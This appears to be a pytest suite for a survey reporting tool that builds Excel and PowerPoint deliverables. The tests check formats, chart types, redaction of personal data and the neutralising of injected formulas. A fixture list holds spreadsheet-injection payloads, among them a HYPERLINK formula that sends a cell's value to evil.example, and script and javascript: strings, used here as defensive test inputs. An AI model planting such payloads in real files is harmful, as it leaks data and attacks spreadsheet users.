"""The deliverables: the manifest the notebooks record, report.xlsx and report.pptx.

The workbook is read back with openpyxl and the deck with python-pptx, and checked
against the tables that were shown: values (unrounded), number formats, sheet and slide
counts, chart types, no formulas, no links, no personal data.
"""

from __future__ import annotations

import json
import zipfile

import matplotlib

matplotlib.use("Agg")
import matplotlib.pyplot as plt  # noqa: E402
import numpy as np
import openpyxl  # noqa: E402
import pandas as pd  # noqa: E402
import pytest  # noqa: E402
from pptx import Presentation  # noqa: E402
from pptx.enum.chart import XL_CHART_TYPE  # noqa: E402
from pptx.enum.shapes import MSO_SHAPE_TYPE  # noqa: E402

from analysis_helpers.deliverables import (  # noqa: E402
    Chart,
    build_deliverables,
    excel_format,
    read_manifest,
)
from analysis_helpers.deliverables.deck import split_takeaway  # noqa: E402
from analysis_helpers.deliverables.workbook import sheet_name  # noqa: E402
from analysis_helpers.notebook import setup  # noqa: E402
from analysis_helpers.study import StudyFileError, load_study  # noqa: E402

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+SUM(1,2)",
    "-2+3",
    "@cmd",
    "\tTAB",
    "<script>alert(1)</script>",
    "[x](javascript:alert(1))",
]
PII = "mail li.wei@example.com or call 138 1234 5678"


@pytest.fixture(autouse=True)
def quiet(monkeypatch):
    monkeypatch.setattr("IPython.display.display", lambda *a, **k: None)


@pytest.fixture
def ctx(tmp_path):
    c = setup("config/demo.yml", str(tmp_path / "rep"), notebook="20-describe")
    spec = c.study.spec
    c.study.spec = spec.model_copy(
        update={"reporting": spec.reporting.model_copy(update={"confidence": 0.9})}
    )
    return c


KPIS = pd.DataFrame(
    {
        "label": ["Overall satisfaction: mean", "Top-2-box", "NPS", "Index"],
        "unit": ["mean (1-10)", "share", "points", "index (0-100)"],
        "estimate": [6.62345, 0.091234, -4.2, 62.61],
        "ci_low": [6.54, 0.08, -9.1, 62.0],
        "ci_high": [6.70, 0.11, 0.4, 63.2],
        "n": [1505, 1505, 1505, 1400],
        "change": [0.17, 0.023, -2.0, 1.0],
        "p_value": [0.0001, 0.03, 0.5, 0.2],
        "significant": [True, False, False, False],
    }
)


def _shown_report(ctx):
    ctx.show(
        KPIS,
        columns={"label": "KPI", "estimate": None, "ci": None, "n": None, "change": None,
                 "p_value": None, "significant": None},
        caption="KPIs, Q2 2025",
    )  # fmt: skip
    comments = pd.DataFrame(
        {"comment": [*HOSTILE, PII], "share": [0.5] * len(HOSTILE) + [0.25]},
    )
    ctx.show(comments, caption=HOSTILE[0], free_text=["comment"])
    fig, ax = plt.subplots()
    ax.bar(["a", "b"], [1, 2])
    ax.set_title("Index by area")
    areas = pd.DataFrame(
        {"area": ["network", "hotline"], "index": [58.25, 61.5], "n": [1500, 1498]}
    )
    ctx.save_figure(fig, "areas", data=areas, chart={"type": "bar", "x": "area", "y": "index"})
    ctx.say("**{a}** scores lowest ({x:index}). It is 网络 the weakest area.", a="Network", x=58.26)
    waves = pd.DataFrame(
        {
            "wave": ["2024Q1", "2024Q2", "2024Q1", "2024Q2"],
            "label": ["Mean", "Mean", "Top-2", "Top-2"],
            "estimate": [0.61, 0.64, 0.2, 0.25],
        }
    )
    ctx.save_figure(
        fig,
        "trend",
        data=waves,
        chart=Chart("line", x="wave", y="estimate", series="label", kind="share"),
        takeaway="Both KPIs rose.",
        note="Weighted.",
    )
    pts = pd.DataFrame(  # a point without a finite x or y is left out of the native chart
        {
            "item": ["hot_wait", "bill_clear", "net_drop", "shop"],
            "imp": [0.3, 0.1, np.nan, 0.2],
            "perf": [55.0, 70, 60, np.inf],
        }
    )
    ctx.save_figure(
        fig, "ipa", data=pts, chart={"type": "scatter", "x": "imp", "y": "perf", "label": "item"}
    )
    ctx.save_figure(fig, "png_only", close=True)
    ctx.say("A picture only.")


def test_excel_formats_follow_the_kinds():
    assert excel_format("share") == "0%" and excel_format("share", 1) == "0.0%"
    assert excel_format("percent") == '0.0"%"'
    assert excel_format("mean") == "0.00" and excel_format("index") == "0.0"
    assert excel_format("base") == "#,##0" and excel_format("integer") == "0"
    assert excel_format("nps") == "0" and excel_format("coef") == "0.00"
    assert excel_format("number", 3) == "#,##0.000"
    assert excel_format("p") == '[<0.001]"< 0.001";0.000'
    assert excel_format("index", signed=True) == "+0.0;-0.0;0.0"
    assert excel_format("share", signed=True) == '+0.0" pp";-0.0" pp";0.0" pp"'
    assert excel_format("text") is None and excel_format("significance") is None


def test_sheet_names_are_valid_unique_and_short():
    taken: set[str] = set()
    names = [sheet_name(t, taken) for t in ["A/B: [c]*?", "a b c", "x" * 40, "x" * 40, "History"]]
    assert names[0] == "A B c"
    assert names[1] == "a b c (2)"  # Excel compares sheet names without case
    assert names[2] == "x" * 31 and names[3] == "x" * 27 + " (2)"
    assert names[4] == "History 1"
    assert all(len(n) <= 31 for n in names)
    assert len({n.lower() for n in names}) == len(names)


def test_split_takeaway():
    assert split_takeaway("A is 5.9. B fell 0.4 points.") == ("A is 5.9.", "B fell 0.4 points.")
    assert split_takeaway("p < 0.001 here.") == ("p < 0.001 here.", "")
    title, rest = split_takeaway("word " * 60)
    assert len(title) <= 150 and title.endswith("…") and rest.startswith("word")


def test_the_manifest_records_what_is_shown(ctx):
    _shown_report(ctx)
    lines = (ctx.report_dir / "deliverables" / "20-describe.jsonl").read_text().splitlines()
    entries = [json.loads(line) for line in lines]
    assert [e["type"] for e in entries] == [
        "table", "table", "figure", "say", "figure", "figure", "figure", "say",
    ]  # fmt: skip
    table = entries[0]
    assert table["caption"] == "KPIs, Q2 2025"
    assert [c["label"][-1] for c in table["columns"]] == [
        "KPI", "Estimate", "90% CI low", "90% CI high", "Base", "Change", "p", "Sig.",
    ]  # fmt: skip
    assert table["columns"][1]["formats"] == ["0.00", "0%", "0", "0.0"]
    assert "Intervals: 90% confidence" in table["footnote"]
    assert "Tests at the 0.05 level, Holm-adjusted" in table["footnote"]
    assert "Base: n = 1,400 to 1,505" in table["footnote"]
    data = pd.read_parquet(ctx.report_dir / table["data"])
    assert data["c1"].tolist() == KPIS["estimate"].tolist()  # unrounded
    # the share's change in percentage points (x 100), the others as they are
    assert data["c5"].tolist() == pytest.approx([0.17, 2.3, -2.0, 1.0])
    fig = entries[2]
    assert fig["caption"] == "Index by area" and fig["png"] == "figures/areas.png"
    assert fig["base"] == "Base: n = 1,498 to 1,500"
    assert fig["chart"]["format"] == "0.0"  # index
    chart = pd.read_parquet(ctx.report_dir / fig["chart"]["data"])
    assert chart["x"].tolist() == ["Network service 网络服务", "Hotline 客服热线"]
    assert entries[3]["text"] == "Network scores lowest (58.3). It is 网络 the weakest area."
    # a notebook run again starts afresh
    again = setup(str(ctx.study.path), str(ctx.report_dir), notebook="20-describe")
    again.say("Only this.")
    assert len(read_manifest(ctx.report_dir)) == 1
    assert not (ctx.report_dir / "deliverables" / "20-describe" / "t001.parquet").exists()


def test_charts_are_checked(ctx):
    fig, ax = plt.subplots()
    data = pd.DataFrame({"x": ["a"], "y": [1.0], "t": ["u"]})
    with pytest.raises(ValueError, match="data= needs chart="):
        ctx.save_figure(fig, "a", data=data)
    with pytest.raises(ValueError, match="chart= needs data="):
        ctx.save_figure(fig, "a", chart="bar")
    with pytest.raises(ValueError, match="chart type 'pie' is not one of"):
        ctx.save_figure(fig, "a", data=data, chart="pie")
    with pytest.raises(KeyError, match=r"no column\(s\) \['z'\]"):
        ctx.save_figure(fig, "a", data=data, chart={"type": "bar", "x": "x", "y": "z"})
    with pytest.raises(ValueError, match="'t' is not numeric"):
        ctx.save_figure(fig, "a", data=data, chart={"type": "bar", "x": "x", "y": "t"})
    with pytest.raises(ValueError, match="unknown chart keys"):
        ctx.save_figure(fig, "a", data=data, chart={"type": "bar", "x": "x", "y": "y", "z": 1})


def _cells(ws):
    return [c for row in ws.iter_rows() for c in row if c.value is not None]


def test_workbook_holds_every_shown_table(ctx):
    _shown_report(ctx)
    built = build_deliverables(ctx.report_dir, ctx.study, date="2026-01-31",
                               titles={"20-describe": "Describe"})  # fmt: skip
    assert built["files"][0]["sheets"] == 2
    wb = openpyxl.load_workbook(ctx.report_dir / "report.xlsx")
    assert len(wb.sheetnames) == 3 and wb.sheetnames[0] == "Contents"
    contents = wb["Contents"]
    links = [c for c in _cells(contents) if c.hyperlink is not None]
    assert [c.hyperlink.location for c in links] == [f"'{n}'!A1" for n in wb.sheetnames[1:]]
    assert all(c.hyperlink.target is None for c in links)  # internal links only
    ws = wb[wb.sheetnames[1]]
    assert wb.sheetnames[1] == "20-1 KPIs, Q2 2025"
    assert ws["A1"].value == "KPIs, Q2 2025" and ws.freeze_panes == "A4"
    head = [c.value for c in ws[3]]
    assert head == ["KPI", "Estimate", "90% CI low", "90% CI high", "Base", "Change", "p",
                    "Sig."]  # fmt: skip
    rows = list(ws.iter_rows(min_row=4, max_row=7))
    assert [r[1].value for r in rows] == KPIS["estimate"].tolist()
    assert [r[1].number_format for r in rows] == ["0.00", "0%", "0", "0.0"]
    assert [r[4].value for r in rows] == [1505, 1505, 1505, 1400]
    assert {r[4].number_format for r in rows} == {"#,##0"}
    assert rows[1][5].value == pytest.approx(2.3) and "pp" in rows[1][5].number_format
    assert rows[0][6].number_format == '[<0.001]"< 0.001";0.000'
    assert rows[0][7].value == "▲" and rows[0][7].font.color.rgb.endswith("009E73")
    notes = [c.value for c in ws["A"][8:]]
    assert any("Intervals: 90% confidence" in str(n) for n in notes)
    assert ws.column_dimensions["A"].width >= len("Overall satisfaction: mean")
    # respondent text: redacted, and formulas stay text with Excel's quote prefix
    ws2 = wb[wb.sheetnames[2]]
    assert len(wb.sheetnames[2]) <= 31
    texts = {c.value: c for c in _cells(ws2) if isinstance(c.value, str)}
    for h in HOSTILE:
        cell = texts[h]
        assert cell.data_type == "s"
        if h[0] in "=+-@":
            assert cell.quotePrefix
    assert "mail [email] or call [phone]" in texts
    for sheet in wb:
        for c in _cells(sheet):
            assert c.data_type != "f"
            assert "li.wei@" not in str(c.value) and "5678" not in str(c.value)
    with zipfile.ZipFile(ctx.report_dir / "report.xlsx") as z:
        xml = "".join(z.read(n).decode("utf-8", "replace") for n in z.namelist())
    assert "<f>" not in xml and "<f " not in xml and "li.wei" not in xml


def test_deck_has_a_slide_per_figure_with_native_charts(ctx):
    _shown_report(ctx)
    built = build_deliverables(ctx.report_dir, ctx.study, date="2026-01-31",
                               titles={"20-describe": "Describe"})  # fmt: skip
    deck = built["files"][1]
    assert deck["slides"] == 5 and deck["charts"] == 3 and deck["pictures"] == 1
    prs = Presentation(ctx.report_dir / "report.pptx")
    assert prs.slide_width > prs.slide_height  # 16:9
    slides = list(prs.slides)
    assert slides[0].shapes.title.text == ctx.study.title
    assert "Demo Telecom" in slides[0].placeholders[1].text_frame.text
    assert "Report of 31 January 2026" in slides[0].placeholders[1].text_frame.text
    titles = [s.shapes.title.text for s in slides[1:]]
    assert titles == [
        "Network scores lowest (58.3).",
        "Both KPIs rose.",
        "Index by area",  # no takeaway of its own, nor a say before the next figure
        "A picture only.",
    ]
    charts = [sh.chart for s in slides for sh in s.shapes if sh.has_chart]
    assert [c.chart_type for c in charts] == [
        XL_CHART_TYPE.BAR_CLUSTERED,
        XL_CHART_TYPE.LINE_MARKERS,
        XL_CHART_TYPE.XY_SCATTER,
    ]
    bar = charts[0].plots[0]
    assert list(bar.categories) == ["Network service 网络服务", "Hotline 客服热线"]
    assert list(bar.series[0].values) == [58.25, 61.5]
    assert charts[0].value_axis.tick_labels.number_format == "0.0"
    line = charts[1].plots[0]
    assert list(line.categories) == ["Q1 2024", "Q2 2024"]
    assert [s.name for s in line.series] == ["Mean", "Top-2"]
    assert list(line.series[1].values) == [0.2, 0.25]
    assert charts[1].value_axis.tick_labels.number_format == "0%"
    scatter = charts[2].plots[0].series[0]
    assert list(scatter.values) == [55.0, 70.0]
    labels = [p.data_label.text_frame.text for p in scatter.points]
    assert labels[0] == "Waiting time" and len(labels) == 2
    pics = [sh for sh in slides[4].shapes if sh.shape_type == MSO_SHAPE_TYPE.PICTURE]
    assert len(pics) == 1
    texts = [sh.text_frame.text for s in slides for sh in s.shapes if sh.has_text_frame]
    assert "Base: n = 1,498 to 1,500 · Source: Describe" in texts
    assert "Weighted. · Source: Describe" in texts
    assert "It is 网络 the weakest area." in texts
    with zipfile.ZipFile(ctx.report_dir / "report.pptx") as z:
        slide2 = z.read("ppt/slides/slide2.xml").decode()
        rels = "".join(z.read(n).decode() for n in z.namelist() if n.endswith(".rels"))
    assert '<a:ea typeface="Microsoft YaHei"/>' in slide2 and 'lang="zh-CN"' in slide2
    assert "External" not in rels  # no links out of the deck


def test_an_empty_report_still_gets_both_files(tmp_path):
    study = load_study("config/demo.yml")
    (tmp_path / "deliverables").mkdir()
    (tmp_path / "deliverables" / "10-x.jsonl").write_text('{"type": "say", "notebook"\n')
    built = build_deliverables(tmp_path, study)
    assert built["entries"] == 0
    wb = openpyxl.load_workbook(tmp_path / "report.xlsx")
    assert wb.sheetnames == ["Contents"]
    assert "This report shows no tables." in [c.value for c in _cells(wb["Contents"])]
    prs = Presentation(tmp_path / "report.pptx")
    assert len(prs.slides) == 2
    assert prs.slides[1].shapes.title.text == "Charts"


def test_the_deck_uses_a_client_template(ctx, tmp_path):
    from pptx.util import Inches

    tpl = Presentation()  # 4:3, with a slide of its own, a brand mark on the master
    own = tpl.slides.add_slide(tpl.slide_layouts[6])
    mark = own.shapes.add_textbox(Inches(0.2), Inches(7), Inches(3), Inches(0.3))
    mark.text_frame.text = "ACME brand"
    tpl.slide_masters[0].shapes._spTree.append(mark._element)
    tpl.slide_layouts[5]._element.cSld.set("name", "ACME headline")  # a layout of its own
    path = tmp_path / "client.pptx"  # (the study file takes paths inside the project)
    tpl.save(path)
    spec = ctx.study.spec
    ctx.study.spec = spec.model_copy(
        update={"deliverables": spec.deliverables.model_copy(update={"pptx_template": str(path)})}
    )
    _shown_report(ctx)
    built = build_deliverables(ctx.report_dir, ctx.study)
    assert built["files"][1]["template"] == "client.pptx"
    prs = Presentation(ctx.report_dir / "report.pptx")
    assert (prs.slide_width, prs.slide_height) == (Inches(10), Inches(7.5))
    assert len(prs.slides) == 5  # the template's own slide is gone
    master = [sh.text_frame.text for sh in prs.slide_masters[0].shapes if sh.has_text_frame]
    assert "ACME brand" in master
    assert {s.slide_layout.name for s in prs.slides} == {"Title Slide", "ACME headline"}


@pytest.mark.parametrize(
    "value, message",
    [
        ("/etc/client.pptx", "a path inside the project"),
        ("../client.pptx", "a path inside the project"),
        ("config/client.potx", "must be a .pptx file"),
    ],
)
def test_study_file_checks_the_template(tmp_path, value, message):
    text = (load_study("config/demo.yml").path).read_text(encoding="utf-8")
    path = tmp_path / "config" / "demo.yml"
    path.parent.mkdir()
    path.write_text(text + f"\ndeliverables:\n  pptx_template: {value}\n", encoding="utf-8")
    with pytest.raises(StudyFileError, match=message):
        load_study(path, check_files=False)


def test_the_summary_notebook_becomes_the_executive_summary_slide(ctx, tmp_path):
    summary = setup(str(ctx.study.path), str(ctx.report_dir), notebook="00-summary")
    summary.say("Satisfaction fell **{x:share}** in {w}.", x=0.05, w="Q2 2025")
    summary.say("Hotline waiting is the top driver.")
    _shown_report(ctx)
    built = build_deliverables(ctx.report_dir, ctx.study)
    assert built["files"][1]["slides"] == 6
    prs = Presentation(ctx.report_dir / "report.pptx")
    slide = prs.slides[1]
    assert slide.shapes.title.text == "Executive summary"
    body = [p.text for sh in slide.placeholders if sh.placeholder_format.idx == 1
            for p in sh.text_frame.paragraphs]  # fmt: skip
    assert body == ["Satisfaction fell 5% in Q2 2025.", "Hotline waiting is the top driver."]


def test_spanning_headers_of_a_pivot(tmp_path):
    c = setup("config/demo.yml", str(tmp_path / "rep"), notebook="40-cross")
    cols = pd.MultiIndex.from_tuples(
        [("2024Q1", "mean"), ("2024Q1", "n"), ("2024Q2", "mean"), ("2024Q2", "n")]
    )
    t = pd.DataFrame(
        [[6.1, 100, 6.3, 120], [5.2, 90, 5.0, 95]],
        columns=cols,
        index=pd.Index(["net_drop", "hot_wait"], name="item"),
    )
    c.show(t, caption="Pivot")
    build_deliverables(c.report_dir, c.study)
    ws = openpyxl.load_workbook(c.report_dir / "report.xlsx").worksheets[1]
    assert [x.value for x in ws[3]] == [None, "Q1 2024", None, "Q2 2024", None]
    assert [x.value for x in ws[4]] == ["Item", "Mean", "Base", "Mean", "Base"]
    assert sorted(str(r) for r in ws.merged_cells.ranges) == ["B3:C3", "D3:E3"]
    assert ws.freeze_panes == "A5"
    assert [x.value for x in ws[5]] == ["net_drop", 6.1, 100, 6.3, 120]
    assert ws["B5"].number_format == "0.00" and ws["C5"].number_format == "#,##0"


def test_a_long_summary_continues_on_a_second_slide(ctx):
    from analysis_helpers.deliverables.deck import _summary_pages

    long = "A finding whose numbers come from the tables, " * 8  # ~370 characters: 4 lines
    assert [len(p) for p in _summary_pages([long] * 5, width_in=12.1)] == [3, 2]
    assert _summary_pages([], width_in=12.1) == []
    assert _summary_pages(["short"], width_in=12.1) == [["short"]]
    summary = setup(str(ctx.study.path), str(ctx.report_dir), notebook="00-summary")
    for k in range(5):
        summary.say("Finding {k}: " + long, k=k + 1)
    build_deliverables(ctx.report_dir, ctx.study)
    prs = Presentation(ctx.report_dir / "report.pptx")
    titles = [s.shapes.title.text for s in list(prs.slides)[1:3]]
    assert titles == ["Executive summary", "Executive summary (continued)"]
    body = [
        p.text
        for s in list(prs.slides)[1:3]
        for sh in s.placeholders
        if sh.placeholder_format.idx == 1
        for p in sh.text_frame.paragraphs
    ]
    assert [b.split(":")[0] for b in body] == [f"Finding {k}" for k in range(1, 6)]


def test_a_section_heading_said_after_a_figure_is_not_its_title(ctx):
    fig, ax = plt.subplots()
    ax.plot([1, 2], [3, 4])
    ctx.save_figure(fig, "kpi_trend", close=True)
    ctx.say("## 2. Wave-over-wave changes\n\nWhich changes are larger than sampling noise?")
    ctx.say("From Q1 2025 to Q2 2025, no KPI changed significantly.")
    build_deliverables(ctx.report_dir, ctx.study)
    prs = Presentation(ctx.report_dir / "report.pptx")
    assert prs.slides[1].shapes.title.text == (
        "From Q1 2025 to Q2 2025, no KPI changed significantly."
    )
